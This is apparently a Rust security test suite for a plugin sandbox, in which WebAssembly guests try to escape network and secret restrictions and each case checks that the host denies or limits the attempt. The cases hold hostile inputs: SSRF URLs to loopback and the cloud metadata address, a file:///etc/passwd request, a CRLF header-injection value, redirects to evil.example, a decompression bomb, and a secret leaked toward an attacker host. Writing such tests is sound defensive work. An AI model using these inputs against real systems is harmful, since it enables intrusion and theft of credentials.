//! Hosts that a plugin may not reach, fields that it may not send, and secrets that it may not read.

use std::time::Duration;

use plugin_host::Grants;
use plugin_wasm::Limits;
use support::{Content, Origin, Resource, behaviour};

use super::{Attempt, Call, Case, asked_for, case};
use crate::guest::previewer;

/// A guest that sends a request to the URL of the call, with `method` and with what `prepare` does to `$request`. An
/// error becomes its answer. `then` may use the response.
fn sender(method: &str, data: &str, prepare: &str, then: &str) -> Vec<u8> {
    let items = format!(
        r#"
    (import "svc:plugin/http@0.1.0" "[constructor]request" (func $request (param i32 i32 i32 i32) (result i32)))
    (import "svc:plugin/http@0.1.0" "[method]request.header" (func $header (param i32 i32 i32 i32 i32)))
    (import "svc:plugin/http@0.1.0" "[method]request.secret-header" (func $secret (param i32 i32 i32 i32 i32)))
    (import "svc:plugin/http@0.1.0" "[method]response.text" (func $text (param i32 i32)))
    (import "svc:plugin/http@0.1.0" "[method]response.json" (func $json (param i32 i32 i32 i32)))
    (import "svc:plugin/http@0.1.0" "send" (func $send (param i32 i32)))
    (import "svc:plugin/listing@0.1.0" "[method]listing.title" (func $title (param i32 i32 i32)))
    (memory (export "memory") 200)
    (data (i32.const 100) "{method}")
    ;; denied, forbidden, network, upstream, rate-limited, network, network, invalid-input
    (data (i32.const 600) "\0a\06\09\08\07\09\09\01")
    (data (i32.const 800) "{data}")"#
    );
    let len = method.len();
    let body = format!(
        "(local $request i32) (local $i i32)
        (loop $again
        (local.set $request
            (call $request (i32.const 100) (i32.const {len}) (local.get $url) (local.get $length)))
        {prepare}
        (call $send (local.get $request) (i32.const 400))
        (if (i32.load8_u (i32.const 400)) (then
            (call $give_back (local.get $listing))
            (i32.store8 (i32.const 512) (i32.const 1))
            (i32.store8 (i32.const 516)
                (i32.load8_u (i32.add (i32.const 600) (i32.load8_u (i32.const 408)))))
            (return (i32.const 512))))
        {then})"
    );
    previewer(&["http"], &items, &body)
}

fn plain() -> Vec<u8> {
    sender("GET", "", "", "")
}

/// Asks `url`, which is granted as far as `hosts` are.
fn asks(name: &'static str, what: &str, ends: &'static str, (url, hosts): (&str, &[&str])) -> Case {
    let call = Call {
        url: url.to_owned(),
        grants: Grants {
            hosts: hosts.iter().map(|host| host.parse().unwrap()).collect(),
            ..Grants::default()
        },
        ..Call::of(plain())
    };
    case(name, what, ends, Attempt::Call(Box::new(call)))
}

/// Asks a site of the user's, which misbehaves.
fn visits(name: &'static str, what: &str, ends: &'static str, guest: Vec<u8>, page: Resource) -> Case {
    let site = Origin::start(vec![page]);
    let url = site.url("/page");
    let call = Call {
        grants: asked_for(&url, &["https://bound.example"]),
        url,
        limits: Limits {
            // After each wait for a turn a tick of computing is counted.
            cpu: Duration::from_secs(2),
            wall: Duration::from_secs(3),
            ..Limits::preview()
        },
        is_harmless: |listing| !format!("{listing:?}").contains("hunter2"),
        _site: Some(site),
        ..Call::of(guest)
    };
    case(name, what, ends, Attempt::Call(Box::new(call)))
}

fn page(content: Content) -> Resource {
    Resource::new("/page", content)
}

pub(super) fn cases() -> Vec<Case> {
    let mut cases = addresses();
    cases.extend(fields());
    cases.extend(sites());
    cases.extend(secrets());
    cases
}

fn addresses() -> Vec<Case> {
    let this = "127.0.0.1";
    let literal = |name, url: &str| {
        let host = url.trim_end_matches('/');
        let what = format!("asks `{url}`, which its manifest names.");
        asks(name, &what, "forbidden", (url, &[host]))
    };
    vec![
        asks(
            "not-granted",
            "asks a host that nobody granted.",
            "denied",
            ("https://evil.example/", &["https://good.example"]),
        ),
        asks(
            "other-port",
            "asks a port that nobody granted.",
            "denied",
            ("https://good.example:22/", &["https://good.example"]),
        ),
        asks(
            "not-encrypted",
            "asks without TLS where TLS was granted.",
            "denied",
            ("http://good.example/", &["https://good.example"]),
        ),
        asks(
            "look-alike",
            "asks a host that begins like a granted one.",
            "denied",
            ("https://good.example.evil.net/", &["https://good.example"]),
        ),
        asks(
            "user-in-url",
            "hides the host behind a user name.",
            "denied",
            ("https://good.example@evil.net/", &["https://good.example"]),
        ),
        asks(
            "file-url",
            "asks `file:///etc/passwd`.",
            "denied",
            ("file:///etc/passwd", &[]),
        ),
        literal("loopback", &format!("http://{this}/")),
        literal("loopback-decimal", "http://2130706433/"),
        literal("loopback-hexadecimal", "http://0x7f.1/"),
        literal("loopback-6", "http://[::1]/"),
        literal("loopback-mapped", "http://[::ffff:127.0.0.1]/"),
        literal("loopback-nat64", "http://[64:ff9b::7f00:1]/"),
        literal("private-network", "http://10.0.0.1/"),
        literal("unique-local", "http://[fd00::1]/"),
        literal("link-local", "http://169.254.169.254/"),
        literal("any-address", "http://0.0.0.0/"),
        literal("name-of-this-machine", "http://localhost/"),
    ]
}

fn fields() -> Vec<Case> {
    let sets = |name, field: &'static str, value: &'static str| {
        let shown = value.replace("\\0d\\0a", "\\r\\n");
        let len = value.len() - 2 * value.matches('\\').count();
        let (at, name_len) = (800 + field.len(), field.len());
        let prepare = format!(
            "(call $header (local.get $request) (i32.const 800) (i32.const {name_len}) (i32.const {at}) (i32.const {len}))"
        );
        let guest = sender("GET", &format!("{field}{value}"), &prepare, "");
        let call = Call {
            grants: asked_for("https://example.org/", &[]),
            ..Call::of(guest)
        };
        let what = format!("sends `{field}: {shown}`.");
        case(name, &what, "invalidInput", Attempt::Call(Box::new(call)))
    };
    let method = |name, method: &'static str| {
        let call = Call {
            grants: asked_for("https://example.org/", &[]),
            ..Call::of(sender(method, "", "", ""))
        };
        let what = format!("sends a request `{method}`.");
        case(name, &what, "invalidInput", Attempt::Call(Box::new(call)))
    };
    vec![
        sets("line-break", "x-a", "1\\0d\\0aHost: evil.example"),
        sets("own-host", "Host", "evil.example"),
        sets("own-length", "Content-Length", "5"),
        sets("own-framing", "Transfer-Encoding", "chunked"),
        sets("own-te", "TE", "trailers"),
        sets("own-connection", "Connection", "upgrade"),
        sets("own-cookie", "Cookie", "admin=1"),
        sets("proxy-login", "Proxy-Authorization", "Basic YTpi"),
        method("connect", "CONNECT"),
        method("trace", "TRACE"),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a table")]
fn sites() -> Vec<Case> {
    let zeros = behaviour::compressed(&vec![0; 20 * 1024 * 1024]);
    let deep = "[".repeat(200_000);
    let numbers = format!("[{}]", "9".repeat(200_000));
    let pointer = "(call $json (i32.load (i32.const 408)) (i32.const 800) (i32.const 2) (i32.const 704))";
    let reads = || sender("GET", "/0", "", pointer);
    let again = sender(
        "GET",
        "",
        "",
        "(local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br_if $again (i32.lt_u (local.get $i) (i32.const 10000)))",
    );
    let keeps = sender("GET", "", "(br $again)", "");
    let hello = || page(Content::bytes("hello"));
    vec![
        visits(
            "redirect-away",
            "is sent on to a host that nobody granted.",
            "denied",
            plain(),
            hello().with(behaviour::redirect(302, "https://evil.example/")),
        ),
        visits(
            "redirect-inside",
            "is sent on to another port of the user's own machine.",
            "denied",
            plain(),
            hello().with(behaviour::redirect(307, "http://127.0.0.1:1/")),
        ),
        visits(
            "redirect-to-metadata",
            "is sent on to `http://169.254.169.254/`.",
            "denied",
            plain(),
            hello().with(behaviour::redirect(302, "http://169.254.169.254/")),
        ),
        visits(
            "redirect-to-itself",
            "is sent round in circles.",
            "invalidInput",
            plain(),
            hello().with(behaviour::redirect(302, "/page")),
        ),
        visits(
            "large-page",
            "asks for a page of 20 MiB.",
            "upstream",
            plain(),
            page(Content::bytes(vec![0; 20 * 1024 * 1024])),
        ),
        visits(
            "page-that-unfolds",
            "asks for a page of 20 KiB that unfolds to 20 MiB.",
            "upstream",
            plain(),
            hello().with(behaviour::gzip(zeros)),
        ),
        visits(
            "page-that-drips",
            "asks for a page that comes byte by byte.",
            "wallLimit",
            plain(),
            page(Content::bytes(vec![b'a'; 300_000])).with(behaviour::paced(10_000)),
        ),
        visits(
            "deep-json",
            "reads JSON of 200,000 levels.",
            "ok",
            reads(),
            page(Content::bytes(deep)),
        ),
        visits(
            "long-number",
            "reads a number of 200,000 digits.",
            "ok",
            reads(),
            page(Content::bytes(numbers)),
        ),
        visits(
            "request-flood",
            "sends 10,000 requests; after the first twenty it may send five a second, and 64 in all.",
            "rateLimited",
            again,
            hello(),
        ),
        visits(
            "pending-requests",
            "builds requests without end and sends none.",
            "hostcallLimit",
            keeps,
            hello(),
        ),
    ]
}

fn secrets() -> Vec<Case> {
    let with_secret = |then: &str| {
        let prepare = "(call $secret (local.get $request) (i32.const 800) (i32.const 5) (i32.const 805) (i32.const 7))";
        sender("GET", "x-key{token}", prepare, then)
    };
    let shows = "(call $text (i32.load (i32.const 408)) (i32.const 704))
        (call $title (local.get $listing) (i32.load (i32.const 712)) (i32.load (i32.const 716)))";
    let stolen = Call {
        url: "https://evil.example/".to_owned(),
        grants: asked_for("https://evil.example/", &["https://bound.example"]),
        ..Call::of(with_secret(""))
    };
    // A fingerprint of the secret as the title; without the user's consent, it is told why not.
    let vault = r#"
        (import "svc:plugin/vault@0.1.0" "digest" (func $digest (param i32 i32 i32 i32 i32 i32 i32)))
        (import "svc:plugin/listing@0.1.0" "[method]listing.title" (func $title (param i32 i32 i32)))
        (memory (export "memory") 2)
        (data (i32.const 100) "{token}")"#;
    let digest = "(call $digest (i32.const 0) (i32.const 0) (i32.const 100) (i32.const 7) (i32.const 2) (i32.const 0)
            (i32.const 400))
        (call $title (local.get $listing) (i32.load (i32.const 404)) (i32.load (i32.const 408)))";
    let fingerprint = Call {
        is_harmless: |listing| {
            let title = listing.title.as_deref().unwrap_or_default();
            title.contains("secrets:derive")
        },
        ..Call::of(previewer(&["vault"], vault, digest))
    };
    // A hundred requests with a body of 20 MiB each, none of which is sent.
    let http = r#"
        (import "svc:plugin/http@0.1.0" "[constructor]request" (func $request (param i32 i32 i32 i32) (result i32)))
        (import "svc:plugin/http@0.1.0" "[method]request.body-bytes" (func $body (param i32 i32 i32)))
        (import "svc:plugin/http@0.1.0" "[method]request.query" (func $query (param i32 i32 i32 i32 i32)))
        (memory (export "memory") 400)
        (data (i32.const 100) "POST")"#;
    let hoards = "(local $i i32) (local $kept i32)
        (loop $l
            (local.set $kept (call $request (i32.const 100) (i32.const 4) (local.get $url) (local.get $length)))
            (call $body (local.get $kept) (i32.const 65536) (i32.const 20971520))
            (call $query (local.get $kept) (i32.const 100) (i32.const 4) (i32.const 65536) (i32.const 20971520))
            (local.set $i (i32.add (local.get $i) (i32.const 1)))
            (br_if $l (i32.lt_u (local.get $i) (i32.const 100))))";
    vec![
        case(
            "fingerprint-of-a-secret",
            "has a digest computed from a secret, about which its user was not asked.",
            "ok",
            Attempt::Call(Box::new(fingerprint)),
        ),
        case(
            "hoarded-requests",
            "puts together a hundred requests of 40 MiB each and sends none; nothing of them is kept.",
            "ok",
            Attempt::Call(Box::new(Call {
                limits: Limits {
                    cpu: Duration::from_secs(20),
                    wall: Duration::from_mins(1),
                    ..Limits::preview()
                },
                ..Call::of(previewer(&["http"], http, hoards))
            })),
        ),
        case(
            "secret-elsewhere",
            "sends a secret to a host that it is not bound to.",
            "denied",
            Attempt::Call(Box::new(stolen)),
        ),
        visits(
            "secret-echoed",
            "reads a page that repeats the secret which was sent to it.",
            "ok",
            with_secret(shows),
            page(Content::bytes("you sent hunter2 and hunter2")),
        ),
        visits(
            "secret-carried-on",
            "is sent on to another host by a site that writes the secret into the URL.",
            "denied",
            with_secret(""),
            page(Content::bytes("")).with(behaviour::redirect(302, "https://bound.example.evil.net/?k=hunter2")),
        ),
    ]
}
